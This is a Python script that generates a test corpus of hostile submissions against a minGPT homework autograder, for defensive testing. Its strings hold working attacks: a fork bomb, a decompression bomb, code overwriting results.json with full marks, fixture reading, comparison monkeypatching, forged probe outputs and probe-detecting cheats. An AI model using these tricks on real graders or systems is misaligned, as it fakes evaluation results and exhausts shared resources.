"""
Builds the corpus of hostile submissions, tests/hostile/<name>/model.py: uploads that attack
the autograder (hang, exhaust memory, flood stdout, exit early, fork, write results.json,
read the fixtures, monkeypatch comparisons, forge the probes' output files) or return
malformed tensors. tests/autograder/test_hostile.py grades each one through run_autograder.

Where an attack needs a working model around it, the file is reference/mingpt/model.py with
a few lines changed; the others are short stand-alone files. Paths under /autograder/ are
Gradescope's; the tests relocate them into a temporary AUTOGRADER_ROOT.

    python tests/hostile/build.py          # rewrite the corpus from the current reference
    python tests/hostile/build.py --check  # exit 1 if a committed file differs (the tests do this too)
"""

import os
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
REPO = os.path.dirname(os.path.dirname(HERE))
REFERENCE = os.path.join(REPO, 'reference', 'mingpt', 'model.py')
TEMPLATE = os.path.join(REPO, 'student_template', 'hw1', 'mingpt', 'model.py')   # generated from the reference
if REPO not in sys.path:
    sys.path.insert(0, REPO)

from autograder import patching  # noqa: E402

IMPORTS_END = 'from mingpt.utils import CfgNode as CN\n'
ROPE_FORWARD = '    def forward(self, x: torch.Tensor, offset: int = 0) -> torch.Tensor:\n'
ROPE_RETURN = '        return x * cos + rotated * sin\n'
ROPE_ROTATE = '        rotated = torch.cat([-x2, x1], dim=-1)          # (B, nh, T, d)\n'
GQA_RETURN = '        return y, mem\n        # END SOLUTION\n'
GQA_FORWARD = '        B, T, C = x.size()\n        hs, g = self.head_dim, self.n_head // self.n_kv_head\n'
GPT_FORWARD = '    def forward(self, idx, targets=None, kv_caches=None):\n'
LOAD_PRETRAINED = '    def load_pretrained(self, model_path):\n'

# ----------------------------------------------------------------------------- attack code

FORK_BOMB = '''
# HOSTILE: a fork bomb at import; every process keeps forking (bounded by RLIMIT_NPROC)
while True:
    try:
        os.fork()
    except OSError:
        pass
'''

MONKEYPATCH = '''
# HOSTILE: make every comparison helper this process can reach say "equal"
import unittest

import numpy
import numpy.testing

torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
numpy.allclose = lambda *a, **k: True
numpy.array_equal = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
unittest.TestCase.assertTrue = lambda *a, **k: None
unittest.TestCase.assertEqual = lambda *a, **k: None
'''

PRINT_FORWARD = '''        # HOSTILE: 50 MB straight to the process's real stdout on the first call
        if not getattr(GPT, '_flooded', False):
            GPT._flooded = True
            import sys
            sys.__stdout__.write('y' * 50_000_000 + '\\n')
            sys.__stdout__.flush()
'''

WRITE_RESULTS = '''"""HOSTILE: overwrite the grader's results.json with full marks, now and from a background process."""
import json
import os
import time

RESULTS = '/autograder/results/results.json'
FAKE = {'score': 100.0, 'execution_time': 1.0, 'output': 'HOSTILE-FAKE-RESULTS',
        'tests': [{'name': 'HOSTILE-FAKE-RESULTS', 'score': 100.0, 'max_score': 100.0, 'status': 'passed'}]}


def attempt():
    try:
        os.makedirs(os.path.dirname(RESULTS), exist_ok=True)
        with open(RESULTS, 'w') as f:
            json.dump(FAKE, f)
        return 'written'
    except Exception as e:
        return type(e).__name__


print('HOSTILE-WRITE %s: %s' % (RESULTS, attempt()))
# a detached process that keeps trying after the grader has moved on
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(600):
            attempt()
            time.sleep(0.1)
    os._exit(0)
'''

READ_SECRETS = '''"""HOSTILE: read the expected outputs and the reference solution, and show them."""
import os

SOURCE = '/autograder/source'
TARGETS = [SOURCE, os.path.join(SOURCE, 'autograder', 'fixtures', 'cpu', 'expected.npz'),
           os.path.join(SOURCE, 'reference', 'mingpt', 'model.py'), os.path.join(SOURCE, 'grading.yaml')]

for path in TARGETS:
    try:
        if os.path.isdir(path) and os.listdir(path) is not None:
            print('HOSTILE-READ %s: LISTED %s' % (path, sorted(os.listdir(path))[:5]))
        else:
            with open(path, 'rb') as f:
                data = f.read()
            print('HOSTILE-READ %s: READ %d bytes %r' % (path, len(data), data[:40]))
    except Exception as e:
        print('HOSTILE-READ %s: %s' % (path, type(e).__name__))
'''

FORGE = '''"""
HOSTILE: write the probes' output files directly, each claiming status ok with arrays of
zeros of the right names and shapes (read from the job and the probe runner's own inputs),
fake the progress lines, then leave before the real probes run.
"""
import json
import os
import sys

import numpy as np

JOB = os.path.abspath(sys.argv[1])   # the probe runner is started as `probes.py JOB_DIR`
OUT = os.path.join(JOB, 'out')
with open(os.path.join(JOB, 'job.json')) as f:
    job = json.load(f)
inputs = np.load(os.path.join(JOB, 'inputs.npz'))
prof = job['profile']
attn = np.zeros(inputs['attn/x'].shape, np.float32)
B, T = inputs['model/idx'].shape
V = prof['model']['vocab_size']
prompt = inputs['generate/prompt']
tokens = np.concatenate([prompt, np.zeros((prompt.shape[0], 12), prompt.dtype)], axis=1)
kvs = prof['kv_heads']
arrays = {
    'rope': {'d%d_T%d' % (d, t): np.zeros((b, h, t, d), np.float32) for b, h, t, d in prof['rope_cases']},
    'rope-cache': {k: np.zeros(inputs[x].shape, inputs[x].dtype) for k, x in (
        ('call0_T8', 'rope-cache/x8'), ('call1_T24', 'rope-cache/x24'), ('call2_T8', 'rope-cache/x8'),
        ('call3_T8_float64', 'rope-cache/x8_f64'), ('call4_T8_float32', 'rope-cache/x8'))},
    'mha-rope': {'n_kv_head=%d' % prof['module']['n_query_head']: attn},
    'gqa': {'n_kv_head=%d' % k: attn for k in kvs},
    'gqa-rope': {'n_kv_head=%d' % k: attn for k in kvs},
    'dropout': {'gqa/' + c: attn for c in ('attn_p1_train', 'resid_p1_train', 'both_p1_eval')},
    'causality': dict([('%s/%s' % (c, o), attn) for c in ('mha', 'gqa') for o in ('future', 'again')] +
                      [('gpt/%s' % o, np.zeros((B, T, V), np.float32)) for o in ('future', 'again')]),
    'model': dict([('%s/logits' % c, np.zeros((B, T, V), np.float32)) for c in ('rope', 'gqa', 'rope-gqa')] +
                  [('%s/loss' % c, np.zeros(1, np.float32)) for c in ('rope', 'gqa', 'rope-gqa')]),
    'generate': {'greedy': tokens, 'top_k=1': tokens, 'top_k=5': tokens},
    'memory': {'n_kv_head=%d/figure' % k: np.array([0, 19345408.0]) for k in kvs},   # a plausible figure, no readings
    'loss-curve': {'seed%d' % s: np.zeros(prof['loss_curve']['iters']) for s in job.get('loss_curve_seeds', [7])},
    'sliding-window': {'%s/window' % k: np.zeros((inputs['sw/x'].shape), np.float32) for k in ('mha', 'gqa')},
    'sliding-window-memory': {'N=%d/out' % prof['sliding_window']['memory_seq']: np.zeros(inputs['swmem/q'].shape, np.float32)},
}
for probe in ['import'] + list(job['probes']):
    with open(os.path.join(OUT, probe + '.npz'), 'wb') as f:
        np.savez(f, **arrays.get(probe, {}))
    with open(os.path.join(OUT, probe + '.json'), 'w') as f:
        json.dump({'status': 'ok', 'seconds': 0.0, 'stdout': 'HOSTILE-FORGED'}, f)
with open(os.path.join(OUT, 'progress'), 'a') as f:
    for probe in job['probes']:
        f.write('start %s\\nend %s\\n' % (probe, probe))
os._exit(0)
'''

FORGE_MALFORMED = '''"""
HOSTILE: forge the probes' output files with malformed content: NaN and float arrays where
integers belong, arrays of the wrong rank, and report fields of the wrong JSON types.
"""
import json
import os
import sys

import numpy as np

JOB = os.path.abspath(sys.argv[1])
OUT = os.path.join(JOB, 'out')
with open(os.path.join(JOB, 'job.json')) as f:
    job = json.load(f)
nan = np.full((2, 3), np.nan)
arrays = {
    'generate': {'greedy': np.full((2, 20), np.nan), 'top_k=1': np.full((2, 20), np.nan),
                 'top_k=5': np.zeros((2, 20), np.int64)},
    'memory': {'n_kv_head=%d' % k: np.full(4, np.nan) for k in job['profile']['kv_heads']},
    'sliding-window-memory': {'N=%d/out' % job['profile']['sliding_window']['memory_seq']: np.full(3, np.nan)},
    'loss-curve': {'seed7': np.full((3, 40), np.inf)},
    'causality': {'mha/base': nan, 'mha/future': np.zeros(3)},
}
bad_info = {'status': 'ok', 'seconds': 'soon', 'notes': 5, 'where': 7, 'stdout': ['x'], 'dtypes': [1, 2],
            'has_wpe': 'yes', 'case_errors': 'everything', 'message': {'a': 1}}
for probe in ['import'] + list(job['probes']):
    with open(os.path.join(OUT, probe + '.npz'), 'wb') as f:
        np.savez(f, **arrays.get(probe, {'x': nan}))
    with open(os.path.join(OUT, probe + '.json'), 'w') as f:
        json.dump(bad_info if probe in ('rope', 'rope-cache', 'gqa') else {'status': 'ok'}, f)
os._exit(0)
'''

# the start of every stand-alone forgery below: the job, and helpers to write a probe's files
FORGE_PRELUDE = '''import json
import os
import sys
import zipfile

import numpy as np

JOB = os.path.abspath(sys.argv[1])   # the probe runner is started with the job folder as its argument
OUT = os.path.join(JOB, 'out')
with open(os.path.join(JOB, 'job.json')) as f:
    job = json.load(f)
PROBES = list(job['probes'])


def report(probe, text='{"status": "ok", "seconds": 0.0}'):
    with open(os.path.join(OUT, probe + '.json'), 'w') as f:
        f.write(text)


def announce_all_done():
    with open(os.path.join(OUT, 'progress'), 'a') as f:
        for p in ['import'] + PROBES:
            f.write('start %s\\nend %s\\n' % (p, p))


report('import')
'''

FIFO_OUTPUTS = FORGE_PRELUDE + '''
# HOSTILE: FIFOs where the harness reads each probe's report or arrays; opening one for reading
# without O_NONBLOCK waits forever for a writer that never comes
for i, probe in enumerate(PROBES):
    if i % 2 == 0:
        os.mkfifo(os.path.join(OUT, probe + '.json'))
    else:
        report(probe)
        os.mkfifo(os.path.join(OUT, probe + '.npz'))
announce_all_done()
os._exit(0)
'''

OVERSIZED_ARRAYS = FORGE_PRELUDE + '''
# HOSTILE: arrays of the right names but millions of elements (under the 64 MB file limit):
# a judge looping over every generated position would run for hours
N = 6_000_000
huge = {
    'generate': {'greedy': np.zeros((2, N + 1), np.int8), 'top_k=5': np.zeros((2, N + 1), np.int8)},
    'rope': {'d2_T5': np.zeros((2, 3, 5, 2 * 100_000), np.float32)},
    'gqa': {'n_kv_head=1': np.zeros((2, 13, 48 * 10_000), np.float32)},
}
for probe in PROBES:
    report(probe)
    with open(os.path.join(OUT, probe + '.npz'), 'wb') as f:
        np.savez(f, **huge.get(probe, {}))
announce_all_done()
os._exit(0)
'''

NPZ_BOMB = FORGE_PRELUDE + '''
# HOSTILE: every probe's .npz holds one deflated member that inflates to 1 GiB of zeros (about
# 1 MB on disk); reading it whole kills a grader limited to 768 MB
HEADER = ("{'descr': '|u1', 'fortran_order': False, 'shape': (%d,), }" % (1 << 30)).encode()
HEADER = b'\\x93NUMPY\\x01\\x00' + (118).to_bytes(2, 'little') + HEADER.ljust(117) + b'\\n'
bomb = os.path.join(OUT, '.bomb')
with zipfile.ZipFile(bomb, 'w', zipfile.ZIP_DEFLATED, compresslevel=1) as z:
    with z.open('d2_T5.npy', 'w') as m:
        m.write(HEADER)
        chunk = bytes(1 << 20)
        for _ in range(1024):
            m.write(chunk)
data = open(bomb, 'rb').read()
for probe in PROBES:
    report(probe)
    with open(os.path.join(OUT, probe + '.npz'), 'wb') as f:
        f.write(data)
announce_all_done()
os._exit(0)
'''

NPZ_MALFORMED = FORGE_PRELUDE + '''
# HOSTILE: malformed arrays files, one kind per probe
def npy(array):
    import io
    buf = io.BytesIO()
    np.lib.format.write_array(buf, array)
    return buf.getvalue()


def write_zip(probe, members, compression=zipfile.ZIP_STORED):
    with zipfile.ZipFile(os.path.join(OUT, probe + '.npz'), 'w', compression) as z:
        for name, data in members.items():
            z.writestr(name, data)


def corrupt(probe, offset):
    path = os.path.join(OUT, probe + '.npz')
    blob = bytearray(open(path, 'rb').read())
    blob[offset:offset + 16] = bytes(16)
    open(path, 'wb').write(bytes(blob))


ones = np.ones((2, 3, 5, 2), np.float32)
# rope: a corrupt deflate stream
write_zip('rope', {'d2_T5.npy': npy(ones)}, zipfile.ZIP_DEFLATED)
corrupt('rope', 30 + len('d2_T5.npy') + 4)
# rope-cache: stored, but the data no longer matches its CRC
write_zip('rope-cache', {'call0_T8.npy': npy(np.ones((1, 2, 8, 8), np.float32))})
corrupt('rope-cache', 30 + len('call0_T8.npy') + 128)
# mha-rope: an .npy header declaring 8 TiB of float64 (the bytes are not there)
header = "{'descr': '<f8', 'fortran_order': False, 'shape': (1099511627776,), }".encode().ljust(117) + b'\\n'
write_zip('mha-rope', {'n_kv_head=6.npy': b'\\x93NUMPY\\x01\\x00' + (118).to_bytes(2, 'little') + header + bytes(32)})
# gqa: 5000 members
write_zip('gqa', {'x%d.npy' % i: b'' for i in range(5000)})
for probe in PROBES:
    report(probe)
announce_all_done()
os._exit(0)
'''

REPORT_NUMBERS = FORGE_PRELUDE + '''
# HOSTILE: reports with numbers JSON does not allow or Python cannot hold: 1e400 parses as inf,
# NaN and Infinity are accepted by Python's json by default and would end up in results.json
texts = {
    'rope': '{"status": "ok", "seconds": 1e400}',
    'rope-cache': '{"status": "ok", "seconds": NaN}',
    'mha-rope': '{"status": "ok", "seconds": -Infinity}',
    'gqa': '{"status": "ok", "seconds": -5}',
    'gqa-rope': '{"status": "ok", "seconds": %s}' % ('9' * 100_000),
}
for probe in PROBES:
    report(probe, texts.get(probe, '{"status": "ok", "seconds": NaN, "message": "HOSTILE-NAN"}'))
announce_all_done()
os._exit(0)
'''

MANY_NOTES = FORGE_PRELUDE + '''
# HOSTILE: 4,000 distinct notes per probe, 52,000 in all, each report under the 256 KB cap; the
# harness used to merge them with a list (quadratic: hours)
for k, probe in enumerate(PROBES):
    notes = ['%x' % (k * 4000 + i) for i in range(4000)]
    report(probe, json.dumps({'status': 'ok', 'seconds': 0.0, 'notes': notes}))
announce_all_done()
os._exit(0)
'''

FORGED_PROGRESS_FORWARD = '''        # HOSTILE: when the loss-curve probe starts training, write "end loss-curve" into the
        # harness's progress file (which used to lift its deadline), then train slowly
        global _FORGED
        if self.training and targets is not None and not _FORGED:
            import sys
            progress = os.path.join(os.path.abspath(sys.argv[1]), 'out', 'progress')
            with open(progress) as f:
                last = f.read().splitlines()[-1:]
            if last == ['start loss-curve']:
                _FORGED = True
                with open(progress, 'a') as f:
                    f.write('end loss-curve\\n')
        if _FORGED and self.training:
            import time
            time.sleep(0.1)
'''

# ----------------------------------------------------------------------------- attacks on the evidence of a judge
# Each pairs an honest bug (HONEST: the same code without the attack, graded beside it by
# tests/corpora/test_hostile.py) with an attack that tries to earn what the bug costs.

KV_APPEND = "            k, v = kv_cache.append(k, v)  # (B, nkv, past+T, hs): the cache holds only the KV heads\n"
KV_DETACHED = [(KV_APPEND.replace('            k, v = kv_cache.append', '        if kv_cache is not None:\n'
                                  '            k, v = kv_cache.append'),
                KV_APPEND.replace('            k, v = kv_cache.append', '        k, v = k.detach(), v.detach()  # BUG: '
                                  'K/V never learn\n        if kv_cache is not None:\n            k, v = kv_cache.append'))]
TOP_K_CROP = ("            if top_k is not None:\n                v, _ = torch.topk(logits, top_k)\n"
              "                logits[logits < v[:, [-1]]] = -float('Inf')\n")
TOP_K_IGNORED = [(TOP_K_CROP, '            pass  # BUG: top_k is ignored\n')]
GENERATE_RETURN = '        return idx, sum(attn_times) / max(len(attn_times), 1)\n'
GPT_RETURN = '        return logits, loss, sum(attn_seconds) / len(attn_seconds), sum(attn_mem) / len(attn_mem)\n'
GQA_NO_MASK = [("        att = att.masked_fill(mask == 0, float('-inf'))                   # no query sees a later key\n",
                "        pass  # BUG: no causal mask\n")]

REPLAY_LOGITS = """
# HOSTILE: remember what generate produced, and when the model is asked for the logits of that
# very sequence (how a grader used to check that sampled tokens lie in the top k), answer with
# logits that put each generated token first
_GENERATED = []


def _replay(idx, logits):
    for seq in _GENERATED:
        if seq.shape[1] == idx.shape[1] + 1 and torch.equal(seq[:, :-1].to(idx.device), idx):
            logits = logits.clone()
            logits.scatter_(2, seq[:, 1:, None].to(idx.device), 1e4)
    return logits
"""

WATCH_ISINSTANCE = """
# HOSTILE: wrap builtins.isinstance to see which probe is building the model (the grader's adapter
# asks isinstance(layer, nn.Linear) while loading weights), and compute K/V right only there
import builtins
import sys

_isinstance = builtins.isinstance
_ASKING = {'probe': None}


def _watching(obj, cls):
    if cls is nn.Linear:
        f = sys._getframe(1)
        while f is not None and not f.f_code.co_name.startswith('probe_'):
            f = f.f_back
        if f is not None:
            _ASKING['probe'] = f.f_code.co_name
    return _isinstance(obj, cls)


builtins.isinstance = _watching
"""

TRAIN_LONGER = """
# HOSTILE: train twice as long as the caller asks, so that a model that learns slowly lands on the loss
import mingpt.trainer as _trainer

_run = _trainer.Trainer.run


def _longer(self):
    self.config.max_iters = 2 * self.config.max_iters
    return _run(self)


_trainer.Trainer.run = _longer
"""

TRAIN_TWICE = """
# HOSTILE: a second run of the same training after the first, from where the first ended
import mingpt.trainer as _trainer

_run = _trainer.Trainer.run


def _twice(self):
    _run(self)
    return _run(self)


_trainer.Trainer.run = _twice
"""

REPLACE_WRITER = """
# HOSTILE: replace the probe runner's result writer: remember what the value tests returned and
# write the causality test's outputs with their prefix, so a model without a mask looks causal
import sys as _sys


def _forge_writer():
    runner = _sys.modules.get('child.runner')
    if runner is None or getattr(runner, '_forged', False):
        return
    real, memo = runner.write_result, {}

    def write_result(probe_id, arrays, info):
        memo[probe_id] = dict(arrays)
        sources = {'mha': ('mha-rope', 'n_kv_head=6'), 'gqa': ('gqa-rope', 'n_kv_head=2'),
                   'gpt': ('model', 'rope-gqa/logits')}
        if probe_id == 'causality':
            for case, (pid, key) in sources.items():
                base = memo.get(pid, {}).get(key)
                for out in ('future', 'again'):
                    got = arrays.get('%s/%s' % (case, out))
                    if base is not None and got is not None and got.shape == base.shape:
                        c = got.shape[1] // 2
                        got = got.copy()
                        got[:, :c] = base[:, :c]
                        arrays['%s/%s' % (case, out)] = got
        return real(probe_id, arrays, info)
    runner.write_result, runner._forged = write_result, True


_forge_writer()
"""

GQA_DETACH_UNLESS_ASKED = [(KV_APPEND.replace('            k, v = kv_cache.append', '        if kv_cache is not None:\n'
                                              '            k, v = kv_cache.append'),
                            KV_APPEND.replace('            k, v = kv_cache.append',
                                              "        if _ASKING['probe'] != 'probe_gradients':  # HOSTILE\n"
                                              '            k, v = k.detach(), v.detach()  # BUG: K/V never learn\n'
                                              '        if kv_cache is not None:\n            k, v = kv_cache.append'))]

# name -> the honest code's edits (the bug alone); the attack's entry in CASES adds the attack to them
HONEST = {
    'replay_generate_logits': TOP_K_IGNORED,
    'isinstance_sees_the_probe': KV_DETACHED,
    'trainer_runs_longer': KV_DETACHED,
    'trainer_runs_twice': KV_DETACHED,
    'replace_result_writer': GQA_NO_MASK,
}

# ----------------------------------------------------------------------------- the corpus

# name -> (what it does, base: 'reference' or None for stand-alone, [(anchor, replacement)] or the file text)
CASES = {
    'syntax_error': ('a missing operand in RotaryPositionalEmbeddings.forward', 'reference',
                     [('        T = x.shape[-2] + offset\n', '        T = x.shape[-2] + offset +\n')]),
    'import_subprocess': ('imports subprocess (refused before running)', 'reference',
                          [(IMPORTS_END, IMPORTS_END + 'import subprocess  # HOSTILE\n')]),
    'import_wandb': ('imports wandb, which the grader does not provide', 'reference',
                     [(IMPORTS_END, IMPORTS_END + 'import wandb  # HOSTILE\n')]),
    'loop_at_import': ('an infinite loop at import', 'reference',
                       [(IMPORTS_END, IMPORTS_END + '\nwhile True:  # HOSTILE\n    pass\n')]),
    'loop_in_forward': ('RoPE hangs on float64 input, which only the rope-cache test sends', 'reference',
                        [(ROPE_FORWARD, ROPE_FORWARD + '        while x.dtype == torch.float64:  # HOSTILE\n'
                                                       '            pass\n')]),
    'alloc_at_import': ('allocates 4 GB at import', 'reference',
                        [(IMPORTS_END, IMPORTS_END + '\n_HOG = torch.empty(2 ** 30)  # HOSTILE: 4 GB of float32\n')]),
    'alloc_in_forward': ('allocates 4 GB in GroupedQueryAttention.forward', 'reference',
                         [(GQA_FORWARD, '        hog = torch.empty(2 ** 30)  # HOSTILE: 4 GB of float32\n'
                                        + GQA_FORWARD)]),
    'print_50mb': ('prints 50 MB at import and writes 50 MB to the real stdout in GPT.forward', 'reference',
                   [(IMPORTS_END, IMPORTS_END + "\nprint('x' * 50_000_000)  # HOSTILE\n"),
                    (GPT_FORWARD, GPT_FORWARD + PRINT_FORWARD)]),
    'sys_exit_at_import': ('sys.exit(0) at import', 'reference',
                           [(IMPORTS_END, IMPORTS_END + '\nimport sys  # HOSTILE\nsys.exit(0)\n')]),
    'os_exit_at_import': ('os._exit(0) at import', 'reference',
                          [(IMPORTS_END, IMPORTS_END + '\nos._exit(0)  # HOSTILE\n')]),
    'fork_bomb': ('forks in a loop at import', 'reference', [(IMPORTS_END, IMPORTS_END + FORK_BOMB)]),
    'write_results': ("writes /autograder/results/results.json, at import and from a detached process", None,
                      WRITE_RESULTS),
    'read_fixtures': ('reads the fixtures and the reference solution at import', None, READ_SECRETS),
    'monkeypatch': ('a RoPE sign bug, plus torch/numpy/unittest comparison helpers patched to always agree',
                    'reference', [(ROPE_ROTATE, ROPE_ROTATE.replace('[-x2, x1]', '[x2, -x1]')),
                                  (IMPORTS_END, IMPORTS_END + MONKEYPATCH)]),
    'nan_outputs': ('RoPE returns NaN everywhere', 'reference',
                    [(ROPE_RETURN, '        return (x * cos + rotated * sin) * float("nan")  # HOSTILE\n')]),
    'wrong_shape': ('GroupedQueryAttention drops the last position of its output', 'reference',
                    [(GQA_RETURN, '        return y[:, :-1], mem  # HOSTILE: one position short\n'
                                  '        # END SOLUTION\n')]),
    'forge_outputs': ("writes the probes' output files itself (status ok, arrays of zeros) and exits", None, FORGE),
    'forge_malformed': ("writes malformed probe output files (NaN, wrong ranks and JSON types) and exits", None,
                        FORGE_MALFORMED),
    'fifo_outputs': ('puts FIFOs where the harness reads probe reports and arrays, and exits', None, FIFO_OUTPUTS),
    'oversized_arrays': ('writes arrays of millions of elements under the expected names (generate, rope, gqa)',
                         None, OVERSIZED_ARRAYS),
    'npz_bomb': ('writes a deflated .npz that inflates to 1 GiB for every probe', None, NPZ_BOMB),
    'npz_malformed': ('writes a corrupt deflate stream, a bad CRC, an 8 TiB .npy header and 5000 members', None,
                      NPZ_MALFORMED),
    'report_numbers': ('writes reports with seconds 1e400, NaN, -Infinity, -5 and a 100,000-digit number', None,
                       REPORT_NUMBERS),
    'many_notes': ('writes 52,000 distinct notes across the probe reports', None, MANY_NOTES),
    'forged_progress': ('writes "end loss-curve" into the progress file when training starts, then trains slowly',
                        'reference', [(IMPORTS_END, IMPORTS_END + '\n_FORGED = False  # HOSTILE\n'),
                                      (GPT_FORWARD, GPT_FORWARD + FORGED_PROGRESS_FORWARD)]),
    'load_pretrained_hangs': ('GPT.load_pretrained never returns (a busy loop)', 'reference',
                              [(LOAD_PRETRAINED, LOAD_PRETRAINED + '        while True:  # HOSTILE: never returns\n'
                                                 '            pass\n')]),
    # attacks on a judge's evidence (HONEST holds the same code without the attack)
    'replay_generate_logits': ('generate ignores top_k, and the model replays logits that put the generated tokens '
                               'first when asked about its own samples', 'reference',
                               TOP_K_IGNORED + [(IMPORTS_END, IMPORTS_END + REPLAY_LOGITS),
                                                (GENERATE_RETURN, '        _GENERATED.append(idx.clone())  # HOSTILE\n'
                                                 + GENERATE_RETURN),
                                                (GPT_RETURN, GPT_RETURN.replace('return logits,',
                                                                                'return _replay(idx, logits),'))]),
    'isinstance_sees_the_probe': ('K/V detached except while builtins.isinstance (wrapped) shows the gradients probe '
                                  'building the model', 'reference',
                                  GQA_DETACH_UNLESS_ASKED + [(IMPORTS_END, IMPORTS_END + WATCH_ISINSTANCE)]),
    'trainer_runs_longer': ('K/V detached, and the handout Trainer.run patched to train twice as long', 'reference',
                            KV_DETACHED + [(IMPORTS_END, IMPORTS_END + TRAIN_LONGER)]),
    'trainer_runs_twice': ('K/V detached, and the handout Trainer.run patched to run the training a second time',
                           'reference', KV_DETACHED + [(IMPORTS_END, IMPORTS_END + TRAIN_TWICE)]),
    'replace_result_writer': ('no causal mask in GroupedQueryAttention, and the probe runner\'s result writer replaced '
                              'to give the causality test the value tests\' prefixes', 'reference',
                              GQA_NO_MASK + [(IMPORTS_END, IMPORTS_END + REPLACE_WRITER)]),
}

# the attacks on the machine itself (network, other gradings, temp files, /proc, watchdog, memory)
sys.path.insert(0, HERE)
from os_cases import CASES as OS_CASES  # noqa: E402
CASES.update(OS_CASES)


def build(name):
    what, base, edits = CASES[name]
    source = {'reference': REFERENCE, 'template': TEMPLATE}.get(base)
    header = '# HOSTILE SUBMISSION %s: %s.\n# Generated by tests/hostile/build.py%s; do not edit by hand.\n' % (
        name, what, ' from %s' % os.path.relpath(source, REPO) if source else '')
    if base is None:
        return header + edits
    try:
        text = patching.patched_reference(edits, 'tests/hostile/build.py: %s' % name, source)
    except patching.PatchError as e:
        raise SystemExit(str(e))
    return header + text


def honest(name):
    """The code of attack `name` without the attack: the reference with its bug alone."""
    return patching.patched_reference(HONEST[name], 'tests/hostile/build.py: honest %s' % name, REFERENCE)


def path(name):
    return os.path.join(HERE, name, 'model.py')


def main(argv):
    check = '--check' in argv
    stale = []
    for name in CASES:
        text = build(name)
        current = open(path(name)).read() if os.path.isfile(path(name)) else None
        if current != text:
            stale.append(name)
            if not check:
                os.makedirs(os.path.dirname(path(name)), exist_ok=True)
                with open(path(name), 'w') as f:
                    f.write(text)
    if check and stale:
        print('stale hostile submissions: %s; run `python tests/hostile/build.py`' % ', '.join(stale))
        return 1
    print('%s %d hostile submissions' % ('checked' if check else 'wrote', len(CASES)))
    return 0


if __name__ == '__main__':
    sys.exit(main(sys.argv))
